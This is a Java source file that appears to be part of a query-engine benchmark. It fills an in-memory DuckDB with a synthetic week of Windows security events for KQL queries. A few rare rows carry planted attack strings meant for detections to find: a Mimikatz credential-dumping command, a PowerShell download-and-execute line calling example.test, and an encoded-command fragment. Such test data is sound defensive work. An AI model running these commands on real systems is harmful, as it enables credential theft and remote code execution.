package io.holdfast.bench;

import io.holdfast.kql.ColumnSchema;
import io.holdfast.kql.KqlType;
import io.holdfast.kql.TableCatalog;
import io.holdfast.kql.TableSchema;
import io.holdfast.query.CancellationSignal;
import io.holdfast.query.QueryEngine;
import io.holdfast.query.QueryLimits;
import io.holdfast.query.ScanSession;
import io.holdfast.query.TableScan;
import io.holdfast.query.TimeRange;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.time.Clock;
import java.util.Iterator;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.LongStream;
import org.duckdb.DuckDBConnection;

/// A week of a security log in the memory of a DuckDB, the same rows each time: few hosts, accounts and
/// events make most of it, one row in fifty has no account, and what detections look for is rare.
final class SecurityEvents implements AutoCloseable {
    /// The tables in the form that KQL has of them.
    static final TableCatalog CATALOG = TableCatalog.of(List.of(
            new TableSchema("SecurityEvent", List.of(new ColumnSchema("TimeGenerated", KqlType.DATETIME),
                    new ColumnSchema("EventID", KqlType.INT), new ColumnSchema("Computer", KqlType.STRING),
                    new ColumnSchema("Account", KqlType.STRING),
                    new ColumnSchema("IpAddress", KqlType.STRING),
                    new ColumnSchema("CommandLine", KqlType.STRING),
                    new ColumnSchema("DurationMs", KqlType.REAL),
                    new ColumnSchema("Properties", KqlType.DYNAMIC))),
            new TableSchema("Accounts", List.of(new ColumnSchema("Account", KqlType.STRING),
                    new ColumnSchema("Department", KqlType.STRING)))));

    /// Their names.
    static final List<String> TABLES = List.of("SecurityEvent", "Accounts");

    private static final int HOSTS = 500;
    private static final int DAYS = 7;
    private static final int ACCOUNTS = 20_000;
    private static final int ADDRESSES = 30_000;
    private static final long WEEK_MICROS = 7L * 24 * 3600 * 1_000_000;
    private static final long SEED = 20_260_101;

    private final DuckDBConnection connection;

    SecurityEvents(int rows) throws SQLException {
        connection = DriverManager.getConnection("jdbc:duckdb:").unwrap(DuckDBConnection.class);
        try (Statement statement = connection.createStatement()) {
            statement.execute(accounts());
            statement.execute(events(rows));
        }
        // The first query of a database makes the functions in Java that translations call.
        new QueryEngine(this::session, Clock.systemUTC(), QueryLimits.SERVICE).run("print parse_ipv4('::')",
                CATALOG,
                TimeRange.UNBOUNDED, new CancellationSignal());
    }

    Connection connection() {
        return connection;
    }

    /// The number in the command line of a row.
    static String session(long row) throws SQLException {
        try (Connection database = DriverManager.getConnection("jdbc:duckdb:");
                Statement statement = database.createStatement();
                ResultSet result = statement.executeQuery("SELECT hash(CAST(" + row + " AS BIGINT) + 7)")) {
            result.next();
            return result.getString(1);
        }
    }

    /// The columns of a table as the API of tables has them.
    static String columns(String table) {
        String time = table.equals("Accounts") ? "{'name':'TimeGenerated','type':'datetime'}," : "";
        return CATALOG.find(table).orElseThrow().columns().stream()
                .map(column -> "{'name':'" + column.name() + "','type':'" + column.type().kustoName() + "'}")
                .collect(Collectors.joining(",", "[" + time, "]"));
    }

    /// A query with the names that the tables have as custom ones.
    static String customTables(String kql) {
        return kql.replaceAll("\\b(SecurityEvent|Accounts)\\b", "$1_CL");
    }

    /// The rows of a table as bodies of calls, in order of time.
    Iterator<byte[]> bodies(String table) throws SQLException {
        long rows;
        try (Statement statement = connection.createStatement();
                ResultSet result = statement.executeQuery("SELECT count(*) FROM " + table)) {
            result.next();
            rows = result.getLong(1);
        }
        return LongStream.iterate(0, start -> start < rows, start -> start + RowSender.ROWS_OF_A_CALL)
                .mapToObj(start -> body(table, start)).iterator();
    }

    private byte[] body(String table, long start) {
        String columns = table.equals("Accounts")
                ? "*"
                : "strftime(TimeGenerated, '%Y-%m-%dT%H:%M:%S.%fZ') AS TimeGenerated, CAST(Properties AS JSON)"
                        + " AS Properties, * EXCLUDE (TimeGenerated, Properties)";
        try (Statement statement = connection.createStatement();
                ResultSet result = statement
                        .executeQuery("SELECT '[' || string_agg(CAST(to_json(r) AS VARCHAR), ',')"
                                + " || ']' FROM (SELECT " + columns + " FROM " + table + " WHERE rowid >= "
                                + start
                                + " AND rowid < " + (start + RowSender.ROWS_OF_A_CALL) + ") AS r")) {
            result.next();
            return result.getString(1).getBytes(StandardCharsets.UTF_8);
        } catch (SQLException e) {
            throw new IllegalStateException(e);
        }
    }

    /// Writes the tables as the log store would, in plain: one file a day, sorted by time, with its row
    /// groups and its compression, in a folder for each table.
    void writeParquet(Path folder) throws SQLException {
        String options = "' (FORMAT parquet, PARQUET_VERSION v2, COMPRESSION zstd, ROW_GROUP_SIZE 122880)";
        TABLES.forEach(table -> folder.resolve(table).toFile().mkdir());
        try (Statement statement = connection.createStatement()) {
            statement.execute("COPY Accounts TO '" + folder.resolve("Accounts") + "/all" + options);
            for (int day = 1; day <= DAYS; day++) {
                statement.execute("COPY (SELECT * FROM SecurityEvent WHERE CAST(TimeGenerated AS DATE) ="
                        + " DATE '2026-01-0" + day + "' ORDER BY TimeGenerated) TO '"
                        + folder.resolve("SecurityEvent") + "/" + day + options);
            }
        }
    }

    private static String accounts() {
        return "CREATE TABLE Accounts AS SELECT 'CORP\\user' || i AS Account, 'department ' || i % 40"
                + " AS Department FROM range(%d) AS r(i)".formatted(ACCOUNTS);
    }

    /// A number from 0 inclusive to 1 exclusive for each row.
    private static String random(int stream) {
        return "(hash(i * 64 + %d + %d) / 18446744073709551616.0)".formatted(stream, SEED * 1024);
    }

    /// A number below the bound, small ones far more often.
    private static String skewed(int stream, int bound) {
        return "CAST(floor(pow(%s, 4) * %d) AS INTEGER)".formatted(random(stream), bound);
    }

    private static String oneOf(int stream, String... items) {
        return "list_value('%s')[1 + %s]".formatted(String.join("', '", items), skewed(stream, items.length));
    }

    private static String events(int rows) {
        String command = oneOf(7, "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
                "C:\\Program Files\\Agent\\agent.exe --poll", "cmd.exe /c whoami",
                "powershell.exe -NoProfile -File C:\\scripts\\inventory.ps1",
                "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "msiexec.exe /i package.msi /qn",
                "C:\\Users\\Public\\größe\\start.exe", "rundll32.exe shell32.dll,Control_RunDLL")
                + " || ' /session ' || hash(i + 7)";
        String rare = "CASE WHEN i % 50021 = 17 THEN ' && Mimikatz sekurlsa::logonpasswords'"
                + " WHEN i % 50021 = 41 THEN ' mimikatzen' WHEN i % 9973 = 5 THEN"
                + " ' IEX (New-Object Net.WebClient).DownloadString(''http://example.test/a'')'"
                + " WHEN i % 7919 = 3 THEN ' -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' ELSE '' END";
        return """
                CREATE TABLE SecurityEvent AS SELECT
                make_timestamp(epoch_us(TIMESTAMP '2026-01-01') + CAST(i * %d AS BIGINT)) AS TimeGenerated,
                list_value(4624, 4688, 4634, 4672, 4625, 5140, 4648, 4769, 4768, 4776, 4720, 4732, 1102,
                    4697)[1 + %s]::INTEGER AS EventID,
                'host-' || %s || '.corp.example' AS Computer,
                CASE WHEN %s < 0.02 THEN NULL ELSE 'CORP\\user' || %s END AS Account,
                '10.' || a // 256 %% 8 || '.' || a %% 256 || '.7' AS IpAddress,
                %s || %s AS CommandLine,
                CASE WHEN %s < 0.01 THEN NULL ELSE round(exp(%s * 9), 3) END AS DurationMs,
                '{"status":{"code":"' || %s || '","reason":"' || %s || '"},"agent":"sensor/3.' || %s
                    || '","risk":"' || %s || '"}' AS Properties
                FROM (SELECT i, %s AS a FROM range(%d) AS r(i))"""
                .formatted(WEEK_MICROS / rows, skewed(1, 14), skewed(2, HOSTS), random(3),
                        skewed(4, ACCOUNTS),
                        command, rare, random(8), random(9), oneOf(10, "0x0", "0xC000006D", "0xC0000234"),
                        oneOf(11, "ok", "bad password", "locked out"), skewed(12, 30),
                        oneOf(13, "none", "low", "medium", "high"), skewed(5, ADDRESSES), rows);
    }

    private ScanSession session(List<TableScan> scans) {
        return new ScanSession() {
            @Override
            public Connection connection() {
                return connection;
            }

            @Override
            public String relation(int scanIndex) {
                return scans.get(scanIndex).table();
            }

            @Override
            public void close() {
                // The connection stays open for the measurement.
            }
        };
    }

    @Override
    public void close() throws SQLException {
        connection.close();
    }
}
